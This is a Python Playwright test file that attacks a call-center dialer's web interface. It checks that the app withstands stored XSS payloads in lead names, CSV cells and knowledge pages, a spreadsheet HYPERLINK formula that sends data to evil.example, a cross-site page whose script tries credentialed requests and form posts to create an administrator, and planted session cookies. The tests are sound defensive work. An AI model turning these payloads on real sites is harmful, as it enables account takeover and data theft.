"""Attacks on a whole dialer with a real browser: another site's page, a planted session, and a
list that brings scripts along."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import yaml
from aiohttp import web
from playwright.async_api import Browser, Page, expect

from dialer.server.app import Launch, Server
from dialer.server.load import load_site
from dialer.server.people import Kind, NewUser, Role
from dialer.web import problems
from dialer.web.auth import COOKIE
from simulator.pbx import AmiServer, contract_users
from simulator.pbx.party import Scripted
from tests.browser.tab import Tab, tab_of
from tests.server.stage import CAMPAIGN, PASSWORD, Stage

HURT = '<img src=x onerror="window.hurt=1"><script>window.hurt=2</script>'
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"pay")'
NUMBER = "+4930231255200"  # answers
STAFF = {"mia": Role.MANAGER, "sam": Role.SUPERVISOR, "root": Role.ADMINISTRATOR}
# What a browser would have made of markup that came through as such.
WOUNDS = """() => {
  const made = document.querySelectorAll("[onerror], img[src=x], main script");
  return [window.hurt, ...[...made].map((one) => one.outerHTML)].filter(Boolean);
}"""


@asynccontextmanager
async def dialer(folder: Path) -> AsyncIterator[Stage]:
    """One agent, anna, who may call by hand; and the staff."""
    (folder / "script.md").write_text("## Greet {{ name }}\n\nAm I speaking to {{ name }}?\n")
    (folder / "pages").mkdir()
    (folder / "pages" / "pay.md").write_text(f"# Pay\n\n{HURT}\n\n[x](javascript:alert(1))\n")
    pbx = AmiServer(Scripted(), contract_users("c", "e"), harbour_s=3.0)
    await pbx.start()
    more = {"screen": {"script": "script.md", "knowledge": "pages"}, "mode": "manual"}
    it = Stage(folder, pbx, ("anna",), False, {**more, "pacer": "", "pacer_options": {}})
    settings = yaml.safe_load((folder / "dialer.yaml").read_text())
    (folder / "dialer.yaml").write_text(yaml.safe_dump({**settings, "web": {"port": 0}}))
    site, campaigns, crm = load_site(folder / "dialer.yaml")
    it.server = Server(site, campaigns, crm, Launch(durable=False))
    try:
        await it.server.start()
        for name, role in STAFF.items():
            await it.server.accounts.add(NewUser(name, (role,)), "tests")
            await it.server.accounts.set_password(name, PASSWORD, "tests", cheap=True)
        yield it
    finally:
        await it.server.close()
        await pbx.stop()


async def _signed_in(it: Stage, browser: Browser, name: str) -> Tab:
    tab = await tab_of(browser)
    await tab.sign_in(it.server.url, name, PASSWORD)
    await expect(tab.page.locator("#who-name")).to_be_visible()
    return tab


async def _whole(tab: Tab) -> None:
    assert await tab.page.evaluate(WOUNDS) == []
    assert not tab.complaints


async def test_a_script_in_a_leads_name_is_text_wherever_it_is_shown(
    browser: Browser, tmp_path: Path
) -> None:
    async with dialer(tmp_path) as it:
        manager = await _signed_in(it, browser, "mia")
        await _bring_in(manager)
        agent = await _signed_in(it, browser, "anna")
        await _call(agent)
        for path in await manager.page.eval_on_selector_all(
            "nav a", "all => all.map(a => a.pathname)"
        ):
            await manager.page.click(f'nav a[href="{path}"]')
            await expect(manager.page.locator("main h1")).to_be_visible()
            await _whole(manager)
        boss = await _signed_in(it, browser, "root")
        await boss.page.click('nav a[href="/users"]')
        await boss.sees("main", "session.opened")
        await _whole(boss)


async def _bring_in(tab: Tab) -> None:
    """Header, file name and cells are hostile; the row that is left out comes back as a file."""
    rows = [
        ["Account", "Name", "Mobile", HURT],
        ["E1", HURT, NUMBER, HURT],
        ["E2", FORMULA, "12", FORMULA],
    ]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    page = tab.page
    await page.click('nav a[href="/lists"]')
    file: Any = {"name": f"{HURT}.csv", "mimeType": "text/csv", "buffer": text.getvalue().encode()}
    await page.locator("#list-file:enabled").set_input_files(file)
    await tab.sees("table", HURT)
    await _whole(tab)
    await page.click("text=Try it out")
    await tab.sees("main", "What would come of it")
    await page.click("text=Bring it in")
    await tab.sees("main", "It is in")
    await _whole(tab)
    async with page.expect_download() as started:
        await page.click("text=Rejected rows as CSV")
    cells = _cells(await (await started.value).path())
    assert [cell for cell in cells if "HYPERLINK" in cell]
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r")]
    await page.click("text=Done")
    await tab.sees("main", "Brought in")
    await page.click("tbody >> text=Open")
    await expect(page.locator("dialog ol li").first).to_be_visible()
    await _whole(tab)
    await page.keyboard.press("Escape")


def _cells(path: Path) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(path.read_text())) for cell in line]


async def _call(tab: Tab) -> None:
    """Found, called, on the screen, in the script, in the history, in the knowledge pages."""
    page = tab.page
    await page.click("#begin-shift")
    await expect(page.locator("#choose-ready")).to_be_visible()
    await page.keyboard.press("/")
    await page.fill("#search", "onerror")
    await tab.sees("dialog li", HURT)
    await page.click("dialog li button")
    await tab.sees("dialog h3", HURT)
    await tab.sees("dialog dl", HURT)
    await _whole(tab)
    await page.keyboard.press("Escape")
    await page.click("#choose-ready")
    await tab.sees("#state-text", "Ready")
    await page.keyboard.press("/")
    await page.fill("#search", "onerror")
    await page.click("dialog li button")
    await page.click("dialog >> text=Call now")
    await page.keyboard.press("Escape")
    await tab.sees("#lead-name", HURT)
    await tab.sees("ol.steps", HURT)
    await _whole(tab)
    await tab.sees("#call-label", "Talking")
    await page.click("#hangup")
    await tab.sees("#call-label", "Wrap-up")
    await page.fill("#note", HURT)
    await page.click("#offers button[data-code=done]")
    await expect(page.locator("#call")).to_be_hidden()
    await page.keyboard.press("/")
    await page.fill("#search", "onerror")
    await page.click("dialog li button")
    await tab.sees("dialog .note", HURT)
    await _whole(tab)


# --- another site's page --------------------------------------------------------------------------

ARRIVED = 6  # requests at least
_ANSWER = problems.answer
EVIL = """<!doctype html><title>evil</title><iframe id="in" src="SITE/wallboard"></iframe>
<iframe name="out"></iframe>
<form id="form" method="post" target="out" action="SITE/v1/campaigns/CAMPAIGN/stop"></form>
<form id="plain" method="post" target="out" enctype="text/plain" action="SITE/v1/users">
  <input name='{"name":"mallory","roles":["administrator"],"x":"' value='"}'></form>"""
ATTACK = """async (site) => {
  const tried = {};
  const send = async (name, path, options) => {
    try {
      const answer = await fetch(site + path, {credentials: "include", ...options});
      tried[name] = await answer.text();
    } catch { tried[name] = "refused"; }
  };
  const user = JSON.stringify({name: "mallory", roles: ["administrator"]});
  await send("read", "/v1/users", {});
  await send("blind", "/v1/campaigns/CAMPAIGN/stop", {method: "POST", mode: "no-cors"});
  await send("text", "/v1/users", {method: "POST", mode: "no-cors", body: user});
  await send("json", "/v1/users", {method: "POST", body: user,
    headers: {"Content-Type": "application/json", "X-CSRF-Token": "guessed"}});
  await send("sign out", "/v1/session", {method: "DELETE"});
  document.getElementById("form").submit();
  document.getElementById("plain").submit();
  for (const path of ["/v1/wallboard/ws", "/v1/agent/ws"])
    tried[path] = await new Promise((done) => {
      const ws = new WebSocket(site.replace("http", "ws") + path);
      ws.onopen = () => ws.send(JSON.stringify({type: "hello"}));
      ws.onmessage = (event) => done(event.data);
      ws.onerror = ws.onclose = () => done("refused");
    });
  return tried;
}"""


async def _another_site(page: Page, host: str, site: str) -> set[str]:
    """What the script of somebody else's page makes of our answers; it is opened by one who is
    signed in at `site`."""

    async def serve(request: web.Request) -> web.Response:
        body = EVIL.replace("SITE", site).replace("CAMPAIGN", CAMPAIGN)
        return web.Response(text=body, content_type="text/html")

    app = web.Application()
    app.router.add_get("/", serve)
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        await page.goto(f"http://{host}:{runner.addresses[0][1]}/", wait_until="load")
        ours = page.frames[1]
        async with asyncio.timeout(10.0):
            while not ours.url:  # noqa: ASYNC110 - theirs is loaded before ours has been refused
                await asyncio.sleep(0.02)
        assert ours.url.startswith("chrome-error:"), "our page is not shown in theirs"
        tried: dict[str, str] = await page.evaluate(ATTACK.replace("CAMPAIGN", CAMPAIGN), site)
        await page.wait_for_timeout(200)  # for the two forms, whose answers it cannot see
        return set(tried.values())
    finally:
        await runner.cleanup()


async def test_another_sites_page_gets_and_does_nothing(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """From another host, to which the cookie does not go, and from another port of the same one,
    to which it does."""
    refused: list[int] = []  # what the browser does not show to their page, nor to us

    def answer(problem: problems.Problem, more: Any = None) -> web.Response:
        refused.append(problem.status)
        return _ANSWER(problem, more)

    monkeypatch.setattr(problems, "answer", answer)
    async with dialer(tmp_path) as it:
        tab = await _signed_in(it, browser, "root")
        before = it.rows("SELECT * FROM users"), it.rows("SELECT * FROM audit_log")
        for host in ("localhost", "127.0.0.1"):
            refused.clear()
            theirs = await tab.page.context.new_page()
            assert await _another_site(theirs, host, it.server.url) <= {"refused", ""}
            assert len(refused) >= ARRIVED
            assert set(refused) <= {401, 403, 405}, "405: asked whether they may send JSON"
        assert (it.rows("SELECT * FROM users"), it.rows("SELECT * FROM audit_log")) == before
        await tab.page.reload()
        await tab.sees("#who-name", "root")
        (campaign,) = it.server.reception.wallboard().campaigns
        assert campaign.state == "running"


# --- a session that somebody else chose -----------------------------------------------------------


async def test_a_planted_session_is_refused_and_ends_at_the_sign_in(
    browser: Browser, tmp_path: Path
) -> None:
    """Of the attacker's own, and one that nobody gave out."""
    async with dialer(tmp_path) as it:
        accounts = it.server.accounts
        own = await accounts.sign_in("anna", PASSWORD, "", "", Kind.BROWSER)
        for planted in ("chosen-by-somebody-else", own):
            tab = await tab_of(browser)
            context = tab.page.context
            await context.add_cookies([{"name": COOKIE, "value": planted, "url": it.server.url}])
            await tab.page.goto(it.server.url)
            if planted == own:  # the victim sees whose desk it is, and signs in as who she is
                await tab.sees("#who-name", "anna")
                await tab.page.evaluate(
                    "body => fetch('/v1/session', {method: 'POST', body, headers:"
                    " {'Content-Type': 'application/json'}})",
                    json.dumps({"name": "mia", "password": PASSWORD}),
                )
                await tab.page.reload()
            else:
                await tab.sign_in(it.server.url, "mia", PASSWORD)
            await tab.sees("#who-name", "mia")
            (cookie,) = await context.cookies()
            assert cookie["value"] != planted
            assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
            assert accounts.person_of(planted) is None
            person = accounts.person_of(cookie["value"])
            assert person is not None
            assert person.name == "mia"
            await context.close()
